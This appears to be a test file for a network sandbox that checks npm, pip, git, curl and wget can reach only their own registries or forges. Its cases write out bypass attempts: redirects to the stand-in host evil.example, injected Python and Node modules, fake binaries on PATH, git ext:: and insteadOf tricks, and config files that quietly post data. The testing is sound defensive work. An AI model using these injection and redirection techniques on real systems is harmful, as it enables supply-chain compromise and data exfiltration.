import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { confined } from "./world.ts";

/**
 * A service's hosts are open to its client, and to nobody who poses as it, rides on it, or sends it elsewhere. Nobody answers: whoever
 * may connect is told that there is no way there, whoever may not is refused.
 */
interface ServiceCase {
  readonly name: string;
  readonly needs: string;
  readonly before?: string;
  /** Lines of a script of the project. */
  readonly script: string;
  readonly policy?: object;
  /** The host that is refused; absent: nothing is. */
  readonly refused?: string;
}

const HOSTS =
  "printf '127.0.0.1 localhost\\n1.1.1.1 registry.npmjs.org\\n1.0.0.1 pypi.org\\n9.9.9.9 github.com\\n6.6.6.6 evil.example\\n' > /srv/told/hosts; mount --bind /srv/told/hosts /etc/hosts; printf '' > /srv/told/resolv; mount --bind /srv/told/resolv /etc/resolv.conf";
const NPM = "npm view left-pad --fetch-retries=0 --fetch-timeout=2000";
const PIP = "python3 /usr/bin/pip download --retries 0 --timeout 2 --no-deps left-pad";
const DIAL = (host: string): string =>
  `import socket; s = socket.socket(); s.settimeout(2); s.connect((socket.gethostbyname("${host}"), 443))`;
const DIAL_JS = 'require("net").connect(443, "registry.npmjs.org").on("error", () => {})';
const SERVES = "python3 -m http.server 4873 > /dev/null 2>&1 & sleep 1";
const HERE = "echo registry=http://127.0.0.1:4873/";
const ORIGIN = "git remote add origin https://github.com/me/x";
const FETCH = "timeout 5 git fetch";

const CASES: readonly ServiceCase[] = [
  { name: "npm reaches its registry", needs: "npm", script: NPM },
  {
    name: "npm reaches the registry on this machine that its user's settings name",
    needs: "npm",
    before: `${SERVES}; ${HERE} > ~/.npmrc`,
    script: NPM,
  },
  {
    name: "no other port of it",
    needs: "npm",
    before: `${SERVES}; echo registry=http://localhost:4874/ > ~/.npmrc`,
    script: `${NPM} --registry http://localhost:4873/`,
    refused: "localhost:4873",
  },
  { name: "nor one that the project names", needs: "npm", before: `${SERVES}; ${HERE} > .npmrc`, script: NPM, refused: "localhost:4873" },
  {
    name: "nor does another program reach it",
    needs: "npm",
    before: `${SERVES}; ${HERE} > ~/.npmrc`,
    script: `${NPM}; curl -s http://127.0.0.1:4873/`,
    refused: ":4873",
  },
  {
    name: "a script that npm starts does not",
    needs: "npm",
    before: `printf '{ "name": "x", "scripts": { "test": "node dial.js" } }' > package.json; printf '%s' '${DIAL_JS}' > dial.js`,
    script: "npm test",
    refused: "registry.npmjs.org",
  },
  {
    name: "nor another program",
    needs: "npm",
    script: `${NPM}; python3 -c '${DIAL("registry.npmjs.org")}'`,
    refused: "registry.npmjs.org",
  },
  {
    name: "a program of the project that is called npm",
    needs: "npm",
    before: `mkdir bin; printf '#!/usr/bin/env node\\n%s' '${DIAL_JS}' > bin/npm; chmod +x bin/npm`,
    script: "PATH=$PWD/bin:$PATH npm view x",
    refused: "registry.npmjs.org",
  },
  {
    name: "npm with other code loaded into it",
    needs: "npm",
    before: `printf '%s' '${DIAL_JS}' > dial.js`,
    script: `NODE_OPTIONS="--require $PWD/dial.js" ${NPM}`,
    refused: "registry.npmjs.org",
  },
  {
    name: "npm's own file, started with other code",
    needs: "npm",
    before: `printf '%s' '${DIAL_JS}' > dial.js`,
    script: `node -r ./dial.js "$(command -v npm)" view left-pad --fetch-retries=0 --fetch-timeout=2000`,
    refused: "registry.npmjs.org",
  },
  {
    name: "npm told to load a module into itself",
    needs: "npm",
    before: `printf '%s' '${DIAL_JS}' > dial.js`,
    script: "npm --init-module=$PWD/dial.js init -y",
    refused: "registry.npmjs.org",
  },
  {
    name: "npm sent elsewhere by a variable",
    needs: "npm",
    script: `npm_config_registry=http://evil.example ${NPM}`,
    refused: "evil.example",
  },
  {
    name: "npm sent elsewhere by the project",
    needs: "npm",
    before: "echo 'registry=http://evil.example' > .npmrc",
    script: NPM,
    refused: "evil.example",
  },
  { name: "npm sent elsewhere by its words", needs: "npm", script: `${NPM} --registry http://evil.example`, refused: "evil.example" },
  {
    name: "npm sent elsewhere by another home",
    needs: "npm",
    before: "mkdir h; echo 'registry=http://evil.example' > h/.npmrc",
    script: `HOME=$PWD/h ${NPM}`,
    refused: ".npmrc",
  },
  { name: "npm behind a proxy", needs: "npm", script: `https_proxy=http://evil.example:3128 ${NPM}`, refused: "evil.example" },
  { name: "pip sent elsewhere", needs: "/usr/bin/pip", script: `PIP_INDEX_URL=https://evil.example/ ${PIP}`, refused: "evil.example" },
  {
    name: "pip with another configuration",
    needs: "/usr/bin/pip",
    before: "printf '[global]\\nindex-url = http://evil.example/\\n' > pip.conf",
    script: `PIP_CONFIG_FILE=$PWD/pip.conf ${PIP}`,
    refused: "pip.conf",
  },
  {
    name: "pip with other modules",
    needs: "/usr/bin/pip",
    before: `printf '%s' '${DIAL("pypi.org")}' > sitecustomize.py`,
    script: `PYTHONPATH=$PWD ${PIP}`,
    refused: "pypi.org",
  },
  {
    name: "pip with the modules of another home",
    needs: "/usr/bin/pip",
    before: `d=$(HOME=$PWD/h python3 -m site --user-site); mkdir -p $d; printf '%s' '${DIAL("pypi.org")}' > $d/usercustomize.py`,
    script: `HOME=$PWD/h ${PIP}`,
    refused: "pypi.org",
  },
  { name: "git reaches a forge that its words name", needs: "git", script: "timeout 5 git clone -q https://github.com/me/x there" },
  { name: "no other host", needs: "git", script: "timeout 5 git clone -q https://evil.example/x there", refused: "evil.example" },
  {
    name: "nor a forge through another host",
    needs: "git",
    script: "timeout 5 git -c http.proxy=http://evil.example:3128 clone -q https://github.com/me/x there",
    refused: "evil.example",
  },
  {
    name: "nor under a forge's name",
    needs: "git",
    script: "timeout 5 git -c url.https://evil.example/.insteadOf=https://github.com/ clone -q https://github.com/me/x there",
    refused: "evil.example",
  },
  { name: "git reaches a forge that a remote names", needs: "git", before: ORIGIN, script: FETCH },
  {
    name: "not another one that an agent adds",
    needs: "git",
    script: `git remote add e http://evil.example/x; ${FETCH} e`,
    refused: "evil.example",
  },
  {
    name: "nor where its configuration sends it",
    needs: "git",
    before: ORIGIN,
    script: "timeout 5 git -c url.http://evil.example/.insteadOf=https://github.com/ fetch",
    refused: "evil.example",
  },
  {
    name: "nor by a variable",
    needs: "git",
    before: ORIGIN,
    script: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.http://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/ ${FETCH}`,
    refused: "evil.example",
  },
  {
    name: "a program that git starts",
    needs: "git",
    before: `${ORIGIN}; git remote set-url origin git@github.com:me/x; printf '#!/usr/bin/python3\\n%s' '${DIAL("github.com")}' > ssh.py; chmod +x ssh.py`,
    script: `GIT_SSH=$PWD/ssh.py ${FETCH}`,
    refused: "github.com",
  },
  {
    name: "git's own programs, without git",
    needs: "git",
    before: ORIGIN,
    script: `printf 'capabilities\\nlist\\n' | timeout 5 "$(git --exec-path)/git-remote-https" origin https://github.com/me/x`,
    refused: "github.com",
  },
  {
    name: "a remote that is a command",
    needs: "git",
    before: ORIGIN,
    script: `timeout 5 git -c protocol.ext.allow=always fetch 'ext::python3 dial.py'; printf '%s' '${DIAL("github.com")}' > dial.py; timeout 5 git -c protocol.ext.allow=always fetch 'ext::python3 dial.py'`,
    refused: "refused: run",
  },
  { name: "curl reads from a forge", needs: "curl", script: "curl -s -m 2 https://github.com/me/x" },
  { name: "wget reads from a forge", needs: "wget", script: "wget -q -T 2 -t 1 -O- https://github.com/me/x" },
  { name: "curl sends nothing there", needs: "curl", script: "curl -s -m 2 -d a=1 https://github.com/me/x", refused: "github.com" },
  {
    name: "nor what a file of options says",
    needs: "curl",
    before: "mkdir h; echo 'data = a' > h/.curlrc",
    script: "CURL_HOME=$PWD/h curl -s -m 2 https://github.com/me/x",
    refused: "github.com",
  },
  {
    name: "nor that of another home",
    needs: "curl",
    before: "mkdir h; echo 'data = a' > h/.curlrc",
    script: "HOME=$PWD/h curl -s -m 2 https://github.com/me/x",
    refused: "github.com",
  },
  {
    name: "nor that of another folder of settings",
    needs: "curl",
    before: "mkdir h; echo 'data = a' > h/curlrc",
    script: "XDG_CONFIG_HOME=$PWD/h curl -s -m 2 https://github.com/me/x",
    refused: "github.com",
  },
  {
    name: "nor wget's",
    needs: "wget",
    before: "echo 'post_data = a' > w",
    script: "WGETRC=$PWD/w wget -q -T 2 -t 1 -O- https://github.com/me/x",
    refused: "github.com",
  },
  {
    name: "curl behind a proxy",
    needs: "curl",
    script: "https_proxy=http://evil.example:3128 curl -s -m 2 https://github.com/me/x",
    refused: "evil.example",
  },
  { name: "curl asks nobody else", needs: "curl", script: "curl -s -m 2 https://evil.example/x", refused: "evil.example" },
  {
    name: "a program that is called curl",
    needs: "curl",
    before: `mkdir bin; printf '#!/usr/bin/python3\n%s' '${DIAL("github.com")}' > bin/curl; chmod +x bin/curl`,
    script: "PATH=$PWD/bin:$PATH curl -s https://github.com/me/x",
    refused: "github.com",
  },
  {
    name: "where a rule names the host, the script may",
    needs: "git",
    policy: { permissions: { allow: ["Net(evil.example:443)"] } },
    script: `python3 -c '${DIAL("evil.example")}'`,
  },
];

describe("a service is open to its client alone", { concurrent: true }, () => {
  for (const { name, needs, before = "true", script, policy = {}, refused } of CASES)
    it.skipIf(spawnSync("which", [needs]).status !== 0)(name, async () => {
      const prepared = `${HOSTS}\n${before}\ncat > s.sh <<'SCRIPT'\n${script}\nSCRIPT\n`;
      const { said } = await confined({ command: "bash ./s.sh", before: prepared, policy });
      const reached = said.filter((line) => line.startsWith("refused: connect to"));
      if (refused === undefined) expect(reached).toEqual([]);
      else expect(said.join("\n")).toContain(refused);
    });
});
